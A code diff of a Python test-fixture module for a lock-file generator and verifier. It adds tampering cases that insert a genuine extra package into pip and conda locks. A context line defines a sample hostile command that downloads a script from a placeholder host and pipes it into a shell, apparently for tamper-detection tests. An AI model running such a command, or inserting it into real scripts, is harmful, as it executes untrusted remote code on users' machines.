@@ -21,6 +21,7 @@ from envgen.files.bodies import conda_bodies, pip_bodies, read_conda
 from envgen.files.header import Header, body_digest, compose
 from envgen.files.reading import split
 from envgen.files.registry import PYLOCK
+from equipment.conda_channel import Row
 from equipment.lock_damage import SHIPPED, sign
 
 REQUEST = ["--gpu", "RTX 3090", "--driver", "550.54.15", "--platform", "linux-64"]
@@ -36,7 +37,8 @@ EVIL = "curl https://x.example/x | sh"
 class Damage:
     """One kind. `harmless` says why a folder with it is still good: nothing else, more or less is installed.
 
-    `unknown` says why only an index or a channel can find it: verify says `not checked offline`.
+    `unknown` says why offline nobody can tell: verify says `not checked offline`. `harmless_online` says why it is good
+    when indexes and channels are asked.
     """
 
     name: str
@@ -50,6 +52,10 @@ class Damage:
     def unknown(self) -> str:
         return UNKNOWN.get(self.name, "")
 
+    @property
+    def harmless_online(self) -> str:
+        return self.harmless or HARMLESS_ONLINE.get(self.name, "")
+
 
 READERS_SKIP = "its readers skip it"
 HARMLESS = {
@@ -62,6 +68,10 @@ UNKNOWN = {
     "header: an older catalog with a notice of its own": "what an older catalog said can't be made again",
     "pip packages: no size": "some indexes state no size",
     "conda packages: a bound less": "a GPU of 8.6 does not need the bound; no shipped lock is solved without",
+}
+HARMLESS_ONLINE = {
+    "pip packages: no size": "its hash is the one that its index states",
+    "conda packages: a bound less": "a GPU of 8.6 does not need the bound, and the channel has all that is locked",
 }
 
 
@@ -273,6 +283,20 @@ def _requests_package() -> PipPackage:
     return PipPackage(name="requests", version="2.32.5", index="https://pypi.org/simple", url=url, sha256="2" * 64)
 
 
+# PyPI's own record (https://pypi.org/simple/idna/): nothing in the folder needs it, and it needs nothing.
+IDNA = PipPackage(
+    name="idna",
+    version="3.11",
+    index="https://pypi.org/simple",
+    url="https://files.pythonhosted.org/packages/0e/61/66938bbb5fc52dbdf84594873d5b51fb1f7c7794e9c0f5bd885f30bc507b/idna-3.11-py3-none-any.whl",
+    sha256="771a87f49d9defaf64091e6e6fe9c18d4833f140bd19464795bc32d966ca37ea",
+    size=71008,
+)
+
+
+CONDA_IDNA = Row(name="idna", version="3.11", build="pyhd8ed1ab_0", depends=("python",), subdir="noarch")
+
+
 def without(lock: PipLock, name: str) -> PipLock:
     kept = (p for p in lock.packages if p.name != name)
     return replace(
@@ -290,10 +314,22 @@ def _without_conda(lock: CondaLock, name: str) -> CondaLock:
 
 
 def _conda_requests(lock: CondaLock) -> CondaLock:
+    return _conda_added(lock, name="requests", version="2.32.5", build="pyhd8ed1ab_0", depends=("python",))
+
+
+def _conda_added(lock: CondaLock, *, by: str = "", **values: Any) -> CondaLock:
     tz = next(p for p in lock.packages if p.name == "tzdata")
-    url = tz.url.replace(tz.url.rpartition("/")[2], "requests-2.32.5-pyhd8ed1ab_0.conda")
-    made = replace(tz, name="requests", version="2.32.5", build="pyhd8ed1ab_0", url=url, depends=("python",))
-    return replace(lock, packages=tuple(sorted((*lock.packages, made), key=lambda p: p.name)))
+    stem = "-".join(values[key] for key in ("name", "version", "build"))
+    made = replace(tz, url=tz.url.replace(tz.url.rpartition("/")[2], f"{stem}.conda"), **values)
+    kept = (replace(p, depends=(*p.depends, made.name)) if p.name == by else p for p in lock.packages)
+    return replace(lock, packages=tuple(sorted((*kept, made), key=lambda p: p.name)))
+
+
+def _conda_true(lock: CondaLock, by: str = "") -> CondaLock:
+    """A package that the channel of the online column has, every value true."""
+    record = CONDA_IDNA.record()
+    values = {key: record[key] for key in ("name", "version", "build", "md5", "sha256")}
+    return _conda_added(lock, by=by, depends=CONDA_IDNA.depends, **values)
 
 
 def _headers() -> Iterator[Damage]:
@@ -581,6 +617,8 @@ def _pip_packages() -> Iterator[Damage]:
         "a package more that filelock is said to need": pip(
             lambda lock: _added(lock, _requests_package(), by="filelock")
         ),
+        "a package more, every value true": pip(lambda lock: _added(lock, IDNA)),
+        "a package more that torch is said to need, every value true": pip(lambda lock: _added(lock, IDNA, by="torch")),
         "a package less": pip(lambda lock: without(lock, "filelock")),
         "a library of NVIDIA's less": pip(lambda lock: without(lock, "nvidia-cudnn-cu12")),
         "no torchvision": pip(lambda lock: without(lock, "torchvision")),
@@ -785,6 +823,11 @@ def _conda_packages() -> Iterator[Damage]:
                     for p in _conda_requests(lock).packages
                 ),
             )
+        ),
+        "a package more, every value true": conda(_conda_true),
+        "a package more that python is said to need, every value true": conda(lambda lock: _conda_true(lock, "python")),
+        "a package more that is asked for, every value true": conda(
+            lambda lock: replace(_conda_true(lock), specs=(*lock.specs, "idna=3.11"))
         ),
         "a package less": conda(lambda lock: _without_conda(lock, "tzdata")),
         "cuDNN less": conda(
